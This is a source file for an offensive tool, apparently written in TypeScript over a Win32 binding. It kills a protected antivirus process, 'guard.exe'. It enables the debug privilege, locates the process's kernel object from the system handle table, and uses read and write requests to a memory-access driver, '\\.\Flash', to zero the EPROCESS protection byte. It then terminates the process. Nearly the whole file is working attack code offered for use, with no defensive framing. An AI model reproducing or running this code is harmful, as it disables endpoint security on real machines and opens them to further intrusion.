/*
 * Takes the protection off guard.exe, the antivirus, by way of physical memory, and then ends it as any
 * program of an administrator could end any other.
 */
import {
  CTL_CODE,
  CloseHandle,
  CreateFile,
  DeviceIoControl,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_UNKNOWN,
  GENERIC_READ,
  GENERIC_WRITE,
  GetCurrentProcessId,
  INVALID_HANDLE_VALUE,
  METHOD_BUFFERED,
  NtQuerySystemInformation,
  OPEN_EXISTING,
  OpenProcess,
  PROCESS_QUERY_LIMITED_INFORMATION,
  PROCESS_TERMINATE,
  RtlAdjustPrivilege,
  Sleep,
  SystemExtendedHandleInformation,
  TRUE,
  TerminateProcess,
  ULONG,
  ULONGLONG,
  USHORT,
  cast,
  free,
  local,
  malloc,
  out,
  printf,
  sizeof,
  struct,
} from 'win32'
import type { DWORD, HANDLE, Ptr } from 'win32'

const IOCTL_WHERE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const IOCTL_READ = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x801, METHOD_BUFFERED, FILE_ANY_ACCESS)
const IOCTL_WRITE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x802, METHOD_BUFFERED, FILE_ANY_ACCESS)

const REQUEST = struct('REQUEST', {
  /** A virtual address for IOCTL_WHERE, a physical one for the others. */
  Address: ULONGLONG,
  Byte: ULONG,
})
type REQUEST = Ptr<typeof REQUEST>

/** The id of guard.exe on this machine. */
const GUARD = 2456
/** EPROCESS.Protection in this build: PsProtectedSignerAntimalware-Light is 0x31. */
const PROTECTION = 0x87an
/** SeDebugPrivilege. */
const DEBUG = 20

/** A handle in the answer to SystemExtendedHandleInformation (SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX). */
const HANDLE_ENTRY = struct('HANDLE_ENTRY', {
  Object: ULONGLONG,
  UniqueProcessId: ULONGLONG,
  HandleValue: ULONGLONG,
  GrantedAccess: ULONG,
  CreatorBackTraceIndex: USHORT,
  ObjectTypeIndex: USHORT,
  HandleAttributes: ULONG,
  Reserved: ULONG,
})
const HANDLES_BYTES = 0x8000
/** In front of the handles of the answer: their number, and eight bytes that are reserved. */
const HANDLES_OFFSET = 16

/** Where in the kernel the object of an own handle lies; 0 when Windows does not say. */
function whereIs(handle: HANDLE): ULONGLONG {
  const answer = malloc(HANDLES_BYTES)
  if (answer === null) return 0n
  const own = BigInt(GetCurrentProcessId())
  const length = out<DWORD>()
  const status = NtQuerySystemInformation(
    SystemExtendedHandleInformation,
    answer,
    HANDLES_BYTES,
    length,
  )
  let found: ULONGLONG = 0n
  const count = status === 0 ? answer.u32[0] : 0
  for (let i = 0; i < count && found === 0n; i++) {
    const entry = cast(HANDLE_ENTRY, answer.add(HANDLES_OFFSET + i * sizeof(HANDLE_ENTRY)))
    if (entry.UniqueProcessId === own && entry.HandleValue === BigInt(handle)) found = entry.Object
  }
  free(answer)
  return found
}

/** Ask the driver; what it says is in the request. */
function ask(device: HANDLE, code: ULONG, request: REQUEST): boolean {
  return (
    DeviceIoControl(
      device,
      code,
      request,
      sizeof(REQUEST),
      request,
      sizeof(REQUEST),
      out<DWORD>(),
      null,
    ) !== 0
  )
}

/** Write 0 over the byte that protects a process. */
function unprotect(device: HANDLE): boolean {
  // Everybody may open a protected process for this, and so have a handle that Windows tells about.
  const process = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, FALSE, GUARD)
  if (process === null) return false
  const address = whereIs(process)
  CloseHandle(process)
  const request = local(REQUEST)
  request.Address = address + PROTECTION
  if (!ask(device, IOCTL_WHERE, request)) request.Address = address
  if (!ask(device, IOCTL_READ, request)) return false
  printf('Protection of guard.exe: 0x%02X\n', request.Byte)
  request.Byte = 0
  return ask(device, IOCTL_WRITE, request)
}

function end(): void {
  const process = OpenProcess(PROCESS_TERMINATE, FALSE, GUARD)
  if (process === null) {
    printf('guard.exe: refused\n')
    return
  }
  printf('guard.exe: %s\n', TerminateProcess(process, 0) ? 'ended' : 'not ended')
  CloseHandle(process)
  // A process ends in its own threads: the next time that they would be in user mode.
  Sleep(1)
}

export function main(): number {
  RtlAdjustPrivilege(DEBUG, TRUE, FALSE, null)
  end()
  const device = CreateFile(
    '\\\\.\\Flash',
    GENERIC_READ | GENERIC_WRITE,
    0,
    null,
    OPEN_EXISTING,
    0,
    null,
  )
  if (device === INVALID_HANDLE_VALUE) return 1
  if (!unprotect(device)) printf('The driver does not help\n')
  CloseHandle(device)
  end()
  return 0
}
